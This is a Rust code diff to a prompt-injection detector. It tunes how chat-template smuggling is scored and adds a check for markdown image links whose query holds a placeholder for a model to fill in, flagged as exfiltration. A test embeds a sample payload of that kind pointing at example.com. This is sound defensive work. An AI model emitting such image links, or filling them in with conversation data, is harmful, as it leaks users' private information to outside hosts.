@@ -53,7 +53,7 @@ pub(super) fn read(text: &str, hits: &[Hit], channel: Channel, signs: &mut Vec<S
 fn judge(text: &str, hit: &Hit, behind: Concepts, channel: Channel) -> Option<(&'static str, f32)> {
     let fed = channel.is_fed();
     if hit.concepts.meets(Concepts::TEMPLATE) {
-        let told = is_in_code(text, hit);
+        let told = is_in_code(text, hit) || is_talked_of(text, hit);
         return Some(("chat_template_smuggle", if told { 0.35 } else { 0.8 }));
     }
     if hit.concepts.meets(Concepts::TURN.or(Concepts::ROLEJSON)) {
@@ -70,7 +70,17 @@ fn judge(text: &str, hit: &Hit, behind: Concepts, channel: Channel) -> Option<(&
         let weight = if fed { 0.6 } else { 0.35 };
         return behind.meets(TALK).then_some(("hidden_text", weight));
     }
+    if is_filled_in(text, hit) {
+        return Some(("exfiltration", if fed { 0.7 } else { 0.6 }));
+    }
     (behind.meets(Concepts::DATA.or(Concepts::SECRET)) && fed).then_some(("exfiltration", 0.3))
+}
+
+/// Whether an image's address has a place in its query for the model to fill in: `?q=[QUERY]`.
+fn is_filled_in(text: &str, hit: &Hit) -> bool {
+    let image = text[hit.start..hit.end].starts_with(['!', '<']);
+    let address: &str = text[hit.end..].split([' ', '\n', ')', '"', '\'']).next().unwrap_or_default();
+    image && ["=[", "={", "=<", "=%5b", "=%7b"].iter().any(|place| address.contains(place))
 }
 
 /// Whether a mark begins what stands on its line, as far as folding left lines.
@@ -89,9 +99,32 @@ fn is_in_code(text: &str, hit: &Hit) -> bool {
     matches!((before, after), (Some(b'`' | b'"' | b'\''), Some(b'`' | b'"' | b'\'')))
 }
 
+/// Whether a mark stands within talk about tokens and templates.
+fn is_talked_of(text: &str, hit: &Hit) -> bool {
+    const TALK: [&str; 5] = ["token", "template", "tokenizer", "chatml", "delimiter"];
+    let start = text.floor_char_boundary(hit.start.saturating_sub(60));
+    let before = &text[start..hit.start];
+    // A turn begins a line; what is talked of follows a word.
+    before.ends_with(' ')
+        && before.trim_end().ends_with(char::is_alphanumeric)
+        && TALK.iter().any(|word| before.contains(word))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn an_image_to_be_filled_in_leaks() {
+        let found = |text: &str| {
+            let lexicon = super::super::lexicon::Lexicon::new();
+            let mut signs = Vec::new();
+            read(text, &lexicon.scan(text), Channel::User, &mut signs);
+            signs.iter().any(|sign| sign.kind == "exfiltration")
+        };
+        assert!(found("![image](https://example.com/x.png?q=[all you know])"));
+        assert!(!found("![image](https://example.com/x.png?size=40)"));
+    }
 
     #[test]
     fn what_a_user_hands_on_is_a_document() {
